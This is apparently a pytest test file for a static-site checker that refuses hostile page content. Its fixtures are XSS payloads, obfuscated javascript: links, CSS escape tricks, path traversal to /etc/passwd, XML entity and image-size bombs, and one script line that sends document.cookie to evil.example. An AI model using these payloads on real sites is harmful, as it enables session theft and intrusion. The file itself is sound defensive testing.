"""Hostile page bodies, SVG figures, style sheets and files in docs/: refused with file and line."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from conftest import make_docs, make_site_project, run_build

from koppelkansen.check.content import (
    check_css_file,
    check_embedded_files,
    check_page_html,
    check_svg_file,
)
from koppelkansen.check.frontmatter import check_docs
from koppelkansen.cli import main
from koppelkansen.pages.loader import scan
from koppelkansen.problems import Problem

FRONT = "---\ntitle: Aanval\ntype: pagina\nstatus: concept\n---\n\n"

HOSTILE_HTML = [
    ("<script>alert(1)</script>", "<script>"),
    ('<img src="x.png" alt="x" onerror="alert(1)">', "onerror"),
    ('<div onmouseover="x()">a</div>', "onmouseover"),
    ('<a href="javascript:alert(1)">klik</a>', "javascript:"),
    ('<a href="  JaVa\tScRiPt:alert(1)">klik</a>', "javascript:"),
    ('<a href="jav&#x61;script:alert(1)">klik</a>', "javascript:"),
    ('<a href="vbscript:msgbox">klik</a>', "vbscript:"),
    ('<img src="data:image/png;base64,AAAA" alt="x">', "data:"),
    ('<iframe src="https://example.org"></iframe>', "<iframe>"),
    ('<object data="x.swf"></object>', "<object>"),
    ('<embed src="x.swf">', "<embed>"),
    ('<img src="https://tracker.example/p.gif" alt="x">', "andere site"),
    ('<img src="//tracker.example/p.gif" alt="x">', "andere site"),
    ('<img srcset="a.png 1x, https://evil.example/b.png 2x" alt="x">', "andere site"),
    ('<video poster="https://evil.example/p.jpg"></video>', "andere site"),
    ('<div style="background:url(https://evil.example/x.png)">a</div>', "van buiten de site"),
    # CSS escapes and image-set() load a resource without the letters "url(".
    ('<span style="background-image: u\\72 l(https://evil.example/x.png)">a</span>', "van buiten"),
    ("<div style=\"background: image-set('https://evil.example/x.png' 1x)\">a</div>", "van buiten"),
    ("<style>a { background: \\75rl(//evil.example/x.png) }</style>", "van buiten de site"),
    ("<style>@import url(https://evil.example/x.css);</style>", "@import"),
    ('<svg><image href="https://evil.example/x.png"/></svg>', "andere site"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript:"),
    ('<svg><use href="https://evil.example/s.svg#a"/></svg>', "andere site"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>"),
    ('<base href="https://evil.example/">', "<base>"),
    ('<form action="https://evil.example"><input name="x"></form>', "<form>"),
    ('<img src="../../../../etc/passwd" alt="x">', "buiten docs/"),
    ('<a href="../../../../../etc/passwd">x</a>', "buiten docs/"),
]


@pytest.mark.parametrize(("html", "expected"), HOSTILE_HTML)
def test_active_content_is_refused_with_file_and_line(tmp_path, html, expected):
    source = tmp_path / "aanval.md"
    text = FRONT + "Gewone tekst.\n\n" + html + "\n"
    problems = check_page_html(html, "aanval/", source, text)
    assert problems, html
    assert any(expected.lower() in p.message.lower() for p in problems), problems
    assert all(p.path == source for p in problems)
    assert problems[0].line == 9  # the line of the HTML in the Markdown file


@pytest.mark.parametrize(
    "html",
    [
        '<div class="grid" markdown><figure><img src="fig.png" alt="Kaart"></figure></div>',
        '<a href="https://www.waternet.nl/">Waternet</a> <a href="mailto:a@b.nl">mail</a>',
        '<span style="color: #005">blauw</span> <table><tr><td colspan="2">x</td></tr></table>',
        '<svg viewBox="0 0 10 10"><use href="#a"/><a href="../andere/">x</a></svg>',
        '<a href="../andere/#kop">terug</a> <img src="../plaatje.png" alt="p">',
        "<details><summary>Meer</summary><p>tekst</p></details>",
    ],
)
def test_layout_html_stays_allowed(tmp_path, html):
    assert check_page_html(html, "casussen/pagina/", tmp_path / "p.md", html) == []


def test_svg_figure_with_script_or_remote_image_is_refused(tmp_path):
    svg = tmp_path / "fig.svg"
    svg.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
        "<script>alert(1)</script>\n"
        '<rect onclick="x()" width="1" height="1"/>\n'
        '<image xlink:href="https://evil.example/x.png"/>\n'
        "</svg>\n",
        encoding="utf-8",
    )
    problems = check_svg_file(svg)
    assert [p.line for p in problems] == [2, 3, 4]
    entity = tmp_path / "bom.svg"
    entity.write_text(
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>\n',
        encoding="utf-8",
    )
    assert any("DOCTYPE" in p.message for p in check_svg_file(entity))
    broken = tmp_path / "kapot.svg"
    broken.write_text("<svg><g></svg>", encoding="utf-8")
    assert "geen geldige XML" in check_svg_file(broken)[0].message


def test_style_sheet_loading_from_another_host_is_refused(tmp_path):
    css = tmp_path / "extra.css"
    css.write_text(
        "body { color: red; }\n@import url('https://evil.example/x.css');\n", encoding="utf-8"
    )
    problems = check_css_file(css)
    assert problems and problems[0].line == 2


def test_style_sheet_path_out_of_the_site_is_refused_and_one_inside_is_kept(tmp_path):
    css = tmp_path / "extra.css"
    css.write_text(
        "body { background: url(../img/tegel.png); }\n"
        "h1 { background: url('../../../../etc/passwd'); }\n"
        "h2 { background: u\\72 l(../../..\\2f secret.png); }\n",
        encoding="utf-8",
    )
    problems = check_css_file(css, "assets/stylesheets/extra.css")
    # The escaped one is found as the browser reads it; its decoded text is not in the source, so
    # it is reported on the sheet's first line.
    assert sorted(p.message.split("'")[1] for p in problems) == [
        "../../../../etc/passwd",
        "../../../secret.png",
    ]
    assert [p.line for p in problems if "etc/passwd" in p.message] == [2]


def test_inline_style_path_out_of_the_site_is_refused():
    html = '<article><p style="background: url(../../../../etc/passwd)">x</p></article>'
    source = "# Titel\n\n" + '<p style="background: url(../../../../etc/passwd)">x</p>\n'
    problems = check_page_html(html, "casussen/", Path("docs/casussen/index.md"), source)
    assert [(p.line, "buiten de site" in p.message) for p in problems] == [(3, True)], problems


def test_build_refuses_hostile_pages_and_keeps_the_site(tmp_path):
    config = make_site_project(tmp_path)
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("oud", encoding="utf-8")
    docs = tmp_path / "docs"
    (docs / "script.md").write_text(
        FRONT + "Tekst.\n\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n",
        encoding="utf-8",
    )
    (docs / "link.md").write_text(
        FRONT + "Een [link](javascript:alert(document.domain)).\n", encoding="utf-8"
    )
    # A small file that would decode to 40000 × 40000 pixels in the PDF.
    (docs / "bom.png").write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (40000).to_bytes(4, "big") * 2 + bytes(5)
    )
    (docs / "pixel.md").write_text(
        FRONT + "\n\n![pixel](https://tracker.example/p.gif)\n", encoding="utf-8"
    )
    # Refused files are told at the line of the page that shows them too (issue 31): an image
    # in Markdown, one in HTML, an SVG with a script at its own line 2, a PNG named .dat.
    (docs / "figuren").mkdir()
    (docs / "figuren" / "actief.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>',
        encoding="utf-8",
    )
    (docs / "figuren" / "kaart.dat").write_bytes((docs / "bom.png").read_bytes())
    # An SVG that draws the refused PNG (at its line 3), shown by a page (line 15).
    (docs / "figuren" / "omhulsel.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="1" height="1"/>\n'
        '<image href="../bom.png" width="9" height="9"/></svg>',
        encoding="utf-8",
    )
    (docs / "toont.md").write_text(
        FRONT
        + "Tekst.\n\n![Een bom](bom.png)\n\n"  # line 9
        + '<p><img src="../figuren/actief.svg" alt="Actief"></p>\n\n'  # line 11
        + "En ![een kaart](figuren/kaart.dat).\n\n"  # line 13
        + "![Omhulsel](figuren/omhulsel.svg)\n",  # line 15
        encoding="utf-8",
    )
    # Entity-encoded schemes, after a harmless link: each is named at its own line.
    (docs / "entiteit.md").write_text(
        FRONT
        + '<a href="https://example.org/">gewoon</a> en <a href="#x">ook</a>\n\n'
        + 'Tekst met <a href="&#106;avascript:alert(1)">een link</a>.\n\n'
        + '<p><a href="java&#x09;script:alert(2)">klik</a></p>\n\n'
        + '<a href="https://example.org/">nog eens gewoon</a>\n\n'
        + '<a href="&#x6A;ava&#115;cript&#58;alert(3)">drie</a>\n',
        encoding="utf-8",
    )
    built = run_build(config, site)
    assert built.returncode != 0
    err = built.stderr
    assert "docs/script.md:9:1: fout: <script>" in err
    assert "docs/link.md:7:1: fout: 'href' op <a> gebruikt een javascript:-adres" in err
    assert "docs/pixel.md:9:1: fout: <img src=" in err
    javascript = "fout: 'href' op <a> gebruikt een javascript:-adres"
    for line in (9, 11, 15):
        assert f"docs/entiteit.md:{line}:1: {javascript}" in err, err
    assert "docs/entiteit.md:7:" not in err
    assert "docs/bom.png:1:1: fout: deze afbeelding is 40000 × 40000 pixels" in err
    (drawn,) = [m for m in err.splitlines() if "docs/figuren/omhulsel.svg:3:1: fout: " in m]
    assert "deze figuur toont 'bom.png', en dat bestand is geweigerd: " in drawn
    assert "docs/bom.png:1: deze afbeelding is 40000" in drawn
    for line, name, file in (
        (9, "bom.png", "docs/bom.png:1: deze afbeelding is 40000"),
        (11, "actief.svg", "docs/figuren/actief.svg:2: <script>"),
        (13, "kaart.dat", "docs/figuren/kaart.dat:1: deze afbeelding"),
        (15, "omhulsel.svg", "docs/figuren/omhulsel.svg:3: deze figuur toont 'bom.png'"),
    ):
        (told,) = [m for m in err.splitlines() if f"docs/toont.md:{line}:1: fout: " in m]
        assert f"deze pagina toont '{name}', en dat bestand is geweigerd: " in told, told
        assert file in told, told
    assert "Traceback" not in err
    assert (site / "index.html").read_text(encoding="utf-8") == "oud"
    assert not list(tmp_path.glob(".site.*"))


# -- files in docs/ (item 3) ---------------------------------------------------------------------


def _messages(docs: Path) -> list[str]:
    _, problems, _ = check_docs(docs)
    return [p.format(docs.parent) for p in problems]


def test_symlink_out_of_the_repository_is_refused(tmp_path):
    config = make_site_project(tmp_path)
    docs = config.parent / "docs"
    secret = tmp_path.parent / f"{tmp_path.name}-geheim.md"
    secret.write_text(FRONT + "geheim\n", encoding="utf-8")
    try:
        (docs / "lek.md").symlink_to(secret)
        (docs / "map").symlink_to(tmp_path.parent, target_is_directory=True)
        (docs / "plaatje.png").symlink_to("/etc/hostname")
        messages = _messages(docs)
        assert any(m.startswith("docs/lek.md:1:1: fout:") and "buiten docs/" in m for m in messages)
        assert any(m.startswith("docs/map:1:1: fout:") and "snelkoppeling" in m for m in messages)
        assert any(m.startswith("docs/plaatje.png:1:1: fout:") for m in messages)
        built = run_build(config, tmp_path / "site")
        assert built.returncode != 0
        # The build refuses with the same Dutch messages, not only an exit code.
        assert (
            "lek.md:1:1: fout: deze snelkoppeling (symlink) wijst naar een bestand buiten docs/"
            in (built.stderr)
        ), built.stderr
        assert "map:1:1: fout: deze map is een snelkoppeling" in built.stderr
        assert "Traceback" not in built.stderr
        assert not (tmp_path / "site").exists()
    finally:
        secret.unlink()


def test_symlink_to_a_repository_file_outside_docs_is_refused(tmp_path):
    """Not only the world outside the repository: the repository's own files outside docs/ (its
    configuration, its scripts, a maintainer's notes) are not published either."""
    config = make_site_project(tmp_path)
    docs = config.parent / "docs"
    (tmp_path / "notities.md").write_text(FRONT + "intern\n", encoding="utf-8")
    (docs / "instellingen.md").symlink_to(config)  # ../mkdocs.yml
    (docs / "casussen" / "notities.md").symlink_to(Path("..") / ".." / "notities.md")
    (docs / "assets" / "logo.png").symlink_to(tmp_path / "mkdocs.yml")
    messages = _messages(docs)
    for name in ("docs/instellingen.md", "docs/casussen/notities.md", "docs/assets/logo.png"):
        assert any(
            m.startswith(
                f"{name}:1:1: fout: deze snelkoppeling (symlink) wijst naar een bestand "
                "buiten docs/"
            )
            for m in messages
        ), messages
    built = run_build(config, tmp_path / "site")
    assert built.returncode != 0
    assert "instellingen.md:1:1: fout: deze snelkoppeling (symlink) wijst naar een bestand" in (
        built.stderr
    ), built.stderr
    assert not (tmp_path / "site").exists()


def test_dangling_symlink_folder_named_like_a_page_and_upper_case_extension(tmp_path):
    config = make_site_project(tmp_path)
    docs = config.parent / "docs"
    (docs / "weg.md").symlink_to(tmp_path / "bestaat-niet.md")
    (docs / "x.md").mkdir()
    (docs / "x.md" / "binnen.md").write_text(FRONT, encoding="utf-8")
    (docs / "HOOFD.MD").write_text(FRONT, encoding="utf-8")
    messages = _messages(docs)
    assert any(m.startswith("docs/weg.md:1:1: fout:") and "niet bestaat" in m for m in messages)
    assert any(m.startswith("docs/x.md:1:1: fout:") and "is een map" in m for m in messages)
    assert any(m.startswith("docs/HOOFD.MD:1:1: fout:") and "HOOFD.md" in m for m in messages)


def test_page_beside_a_folder_with_the_same_url_is_refused(tmp_path):
    """x.md and x/index.md both become x/index.html: MkDocs would publish one of them silently."""
    config = make_site_project(tmp_path)
    docs = config.parent / "docs"
    (docs / "wijk").mkdir()
    (docs / "wijk" / "index.md").write_text(FRONT, encoding="utf-8")
    (docs / "wijk.md").write_text(FRONT, encoding="utf-8")
    messages = _messages(docs)
    assert any(
        m.startswith("docs/wijk.md:1:1: fout: 'wijk.md' en 'wijk/index.md' worden allebei")
        for m in messages
    ), messages


def test_unreadable_page_gives_a_message(tmp_path, monkeypatch):
    config = make_site_project(tmp_path)
    page = config.parent / "docs" / "dicht.md"
    page.write_text(FRONT, encoding="utf-8")
    page.chmod(0)
    if os.geteuid() == 0:  # root reads every file: refuse this one as the kernel would for others
        original = Path.read_bytes

        def refuse(self: Path) -> bytes:
            if self.name == "dicht.md":
                raise PermissionError(13, "Permission denied", str(self))
            return original(self)

        monkeypatch.setattr(Path, "read_bytes", refuse)
    assert any("kan niet worden gelezen" in m for m in _messages(config.parent / "docs"))


def test_script_after_deep_nesting_or_control_characters_is_still_found(tmp_path):
    deep = "<div>" * 400 + "x" + "</div>" * 400 + "<script>alert(1)</script>"
    assert check_page_html(deep, "p/", tmp_path / "p.md", deep)
    # Deeper than libxml2 parses (2048): the parser stops, so the page is refused as a whole.
    deeper = "<div>" * 3000 + "x" + "</div>" * 3000 + "<script>alert(1)</script>"
    problems = check_page_html(deeper, "p/", tmp_path / "p.md", deeper)
    assert [p.message for p in problems if "te diep genest" in p.message], problems
    odd = "tekst\x0b\x00<script>alert(1)</script>"
    assert any("<script>" in p.message for p in check_page_html(odd, "p/", tmp_path / "p.md", odd))


def test_tag_names_the_html_parser_accepts_but_lxml_names_refuse_give_no_traceback(tmp_path):
    html = "<p>Zie <javascript:alert(1)> en <a:b(1) x=1>tekst</a:b(1)>.</p>"
    assert check_page_html(html, "p/", tmp_path / "p.md", html) == []


def test_image_size_is_read_from_the_header_and_bounded(tmp_path):
    from koppelkansen.check.content import MAX_PIXELS, check_image_file, image_size

    def png(width: int, height: int) -> bytes:
        return (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
            + width.to_bytes(4, "big")
            + height.to_bytes(4, "big")
        )

    assert image_size(png(3000, 2000)) == (3000, 2000)
    assert image_size(b"GIF89a" + (640).to_bytes(2, "little") + (480).to_bytes(2, "little")) == (
        640,
        480,
    )
    jpeg = (
        b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x11\x08"
        + (600).to_bytes(2, "big")
        + (800).to_bytes(2, "big")
    )
    assert image_size(jpeg + bytes(16)) == (800, 600)
    small, huge = tmp_path / "klein.png", tmp_path / "groot.png"
    small.write_bytes(png(3000, 2000))
    huge.write_bytes(png(MAX_PIXELS // 1000 + 1, 1000))
    assert check_image_file(small) == []
    assert "te groot om in een PDF te zetten" in check_image_file(huge)[0].message


PORTABLE = [
    ("con.md", "'con' is op Windows een gereserveerde naam (een apparaat)", "con-1.md"),
    ("Aux.tar.gz", "'Aux' is op Windows een gereserveerde naam (een apparaat)", "Aux-1.tar.gz"),
    ("lpt9.md", "'lpt9' is op Windows een gereserveerde naam (een apparaat)", "lpt9-1.md"),
    ("COM1", "'COM1' is op Windows een gereserveerde naam (een apparaat)", "COM1-1"),
    ("water:energie.md", "bevat ':', dat kan niet op Windows", "water-energie.md"),
    ('kaart*"oost"?.png', "bevat '\"', '*', '?', dat kan niet op Windows", "kaart--oost--.png"),
    ("a<b>|c\\d.svg", "bevat '<', '>', '\\', '|', dat kan niet op Windows", "a-b--c-d.svg"),
    ("plan.md.", "eindigt op een punt of spatie, dat kan niet op Windows", "plan.md"),
    ("verslag ", "eindigt op een punt of spatie, dat kan niet op Windows", "verslag"),
]


@pytest.mark.parametrize(("name", "why", "better"), PORTABLE)
def test_names_other_systems_cannot_check_out_are_refused(
    tmp_path, monkeypatch, capsys, name, why, better
):
    docs = make_docs(tmp_path, {name: FRONT})
    monkeypatch.chdir(tmp_path)
    assert main(["check", "docs"]) == 1
    out = capsys.readouterr().out
    assert (
        f"docs/{name}:1:1: fout: de naam van dit bestand, '{name}', {why}: op Windows of macOS is "
        f"de repository dan niet op te halen. Noem het bijvoorbeeld '{better}'\n"
    ) in out
    assert (docs / name).exists()
    assert name not in {p.name for p in scan(docs)[0]}


@pytest.mark.parametrize(
    ("name", "shown", "better"),
    [
        ("plan\n.md", "plan\\n.md", "plan-.md"),
        ("kaart\tnoord.png", "kaart\\tnoord.png", "kaart-noord.png"),
    ],
)
def test_names_with_invisible_characters_are_refused_on_one_line(
    tmp_path, monkeypatch, capsys, name, shown, better
):
    make_docs(tmp_path, {name: FRONT})
    monkeypatch.chdir(tmp_path)
    assert main(["check", "docs"]) == 1
    [line] = [line for line in capsys.readouterr().out.splitlines() if shown in line]
    assert line == (
        f"docs/{shown}:1:1: fout: de naam van dit bestand, '{shown}', bevat een onzichtbaar teken "
        "(zoals een nieuwe regel of tab): op Windows of macOS is de repository dan niet op te "
        f"halen. Noem het bijvoorbeeld '{better}'"
    )


def test_folder_with_a_reserved_name_is_refused_and_not_walked(tmp_path, monkeypatch, capsys):
    docs = make_docs(tmp_path, {"casussen/nul/binnen.md": FRONT, "prn/plaatje.png": "x"})
    monkeypatch.chdir(tmp_path)
    assert main(["check", "docs"]) == 1
    out = capsys.readouterr().out
    for folder, better in (("casussen/nul", "nul-1"), ("prn", "prn-1")):
        stem = folder.rsplit("/", 1)[-1]
        assert (
            f"docs/{folder}:1:1: fout: de naam van deze map, '{stem}', '{stem}' is op Windows een "
            "gereserveerde naam (een apparaat): op Windows of macOS is de repository dan niet op "
            f"te halen. Noem het bijvoorbeeld '{better}'\n"
        ) in out
    assert "binnen.md" not in {p.name for p in scan(docs)[0]}


@pytest.mark.parametrize(
    ("files", "refused", "other", "better"),
    [
        (["Plan.md", "plan.md"], "plan.md", "Plan.md", "plan-2.md"),
        (["kaart.PNG", "kaart.png"], "kaart.png", "kaart.PNG", "kaart-2.png"),
        (["Wijk/a.md", "wijk/b.md"], "wijk", "Wijk", "wijk-2"),
    ],
)
def test_names_differing_only_in_case_are_refused(
    tmp_path, monkeypatch, capsys, files, refused, other, better
):
    docs = make_docs(tmp_path, dict.fromkeys(files, FRONT))
    monkeypatch.chdir(tmp_path)
    assert main(["check", "docs"]) == 1
    out = capsys.readouterr().out
    assert (
        f"docs/{refused}:1:1: fout: '{refused}' en '{other}' in deze map verschillen alleen in "
        "hoofdletters; op Windows en macOS zijn dat hetzelfde bestand. Voeg ze samen of geef er "
        f"een een andere naam, bijvoorbeeld '{better}'\n"
    ) in out
    assert refused not in {p.name for p in scan(docs)[0]}


def test_every_way_of_showing_a_refused_file_is_told_at_the_pages_line():
    """An image in Markdown (twice), in HTML, in a srcset and a <picture>'s <source>, an inline
    SVG's <image>, a video's poster: each at its own line; a link to the file is no showing."""
    import markdown

    source = FRONT + (
        "![a](../media/foto.webp)\n\n"  # line 7
        "Nog eens: ![b](../media/foto.webp)\n\n"  # 9
        '<img src="../../media/groot.gif" alt="c">\n\n'  # 11
        '<img src="../../media/ok.png" srcset="../../media/groot.gif 2x" alt="d">\n\n'  # 13
        '<picture><source srcset="../../media/kaart.avif"><img src="../../media/ok.png" '
        'alt="e"></picture>\n\n'  # 15
        '<svg><image href="../../media/figuur.svg"/></svg>\n\n'  # 17
        '<video poster="../../media/groot.gif" controls></video>\n\n'  # 19
        "[een link](../media/foto.webp)\n"  # 21: not shown, no problem
    )
    html = markdown.markdown(source.split("---\n", 2)[2], extensions=["md_in_html"])
    # MkDocs rewrites a Markdown image's path from the page's URL: plan/ is one folder deeper.
    html = html.replace('src="../media/', 'src="../../media/')
    page = Path("docs/casussen/plan.md")
    refused = {
        name: [Problem(Path("docs/media") / name.rsplit("/", 1)[1], 3, 1, "fout hier")]
        for name in ("media/foto.webp", "media/groot.gif", "media/kaart.avif", "media/figuur.svg")
    }
    problems = check_embedded_files(html, "casussen/plan/", page, source, refused)
    assert [(p.line, p.message.split("'")[1]) for p in problems] == [
        (7, "foto.webp"),
        (9, "foto.webp"),
        (11, "groot.gif"),
        (13, "groot.gif"),
        (15, "kaart.avif"),
        (17, "figuur.svg"),
        (19, "groot.gif"),
    ]
    assert "docs/media/figuur.svg:3: fout hier. Herstel het bestand" in problems[5].message


def test_an_svg_that_loads_a_stylesheet_and_a_stylesheet_in_disguise_are_refused(tmp_path):
    """An SVG opened on the site runs the XSLT its <?xml-stylesheet?> names (HTML with script),
    and the stylesheet can be named stijl.txt: both are refused (issue 31)."""
    from koppelkansen.pages.activefiles import active_document

    svg = tmp_path / "fig.svg"
    svg.write_text(
        '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="stijl.txt"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg">\n<?foo bar?><rect width="1" height="1"/>'
        "</svg>\n<?xml-stylesheet href='x.css'?>",
        encoding="utf-8",
    )
    assert [(p.line, p.message.split(" …")[0].split()[-1]) for p in check_svg_file(svg)] == [
        (2, "<?xml-stylesheet"),
        (4, "<?foo"),
        (5, "<?xml-stylesheet"),
    ]
    for start in (
        b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">',
        b'\n <stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" version="1.0">',
        b"<?xml-stylesheet href='a'?><x/>",
        b"<![CDATA[x]]>",
    ):
        (tmp_path / "stijl.txt").write_bytes(start)
        assert "begint als HTML of XML" in (active_document(tmp_path / "stijl.txt") or ""), start
    for text in (b"<10 jaar,3\n", b"< geen element", b"tekst <b>later</b>"):
        (tmp_path / "tabel.csv").write_bytes(text)
        assert active_document(tmp_path / "tabel.csv") is None


def test_make_check_tells_refused_images_and_style_sheets_before_the_build(tmp_path, capsys):
    """`make check` checks the files of docs/ as the build does (it read only the pages)."""
    docs = make_docs(tmp_path)
    (docs / "bom.dat").write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (40000).to_bytes(4, "big") * 2 + bytes(5)
    )
    (docs / "figuur.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg">\n<script>1</script></svg>', encoding="utf-8"
    )
    (docs / "stijl.css").write_text("p {}\n@import url(https://evil.example/x.css);\n")
    (docs / "hulp.html").write_text("<script>1</script>", encoding="utf-8")  # told once
    assert main(["check", str(docs)]) == 1
    out = capsys.readouterr().out
    assert "bom.dat:1:1: fout: deze afbeelding is 40000 × 40000 pixels" in out
    assert "figuur.svg:2:1: fout: <script>" in out
    assert "stijl.css:2:1: fout:" in out
    assert out.count("hulp.html:1:1: fout:") == 1


@pytest.mark.parametrize(
    "css",
    ["url(" * 100_000, "image-set(" * 100_000, 'url("' * 100_000, "@import '" * 100_000],
    ids=["url", "image-set", "quoted-url", "import"],
)
def test_the_css_check_is_linear_in_a_hostile_style_sheet(tmp_path, css):
    """url\\((.*?)\\) read to the end of the text from every url( (minutes for 30,000)."""
    import time

    sheet = tmp_path / "stijl.css"
    sheet.write_text(css + "\nurl(https://evil.example/x.png)\n", encoding="utf-8")
    started = time.process_time()
    problems = check_css_file(sheet, "stijl.css")
    assert time.process_time() - started < 5  # about 0.1-1.5 s
    assert problems  # and the remote file after it is still found


def test_css_references_are_read_as_before():
    from koppelkansen.check.content import _css_references

    css = (
        "a{background:url( 'a.png' )} b{background:url(b.png)} c{x:url(\"c d.png\")}\n"
        "@import 'e.css'; @import url(f.css); d{background:image-set('g.png' 1x, \"h.png\" 2x)}\n"
        "/* url(kommentaar.png) */ e{content:'geen url'} f{background:u\\72 l(i.png)}"
    )
    assert _css_references(css) == [
        "a.png",
        "b.png",
        "c d.png",
        "e.css",
        "f.css",
        "g.png",
        "h.png",
        "i.png",
    ]
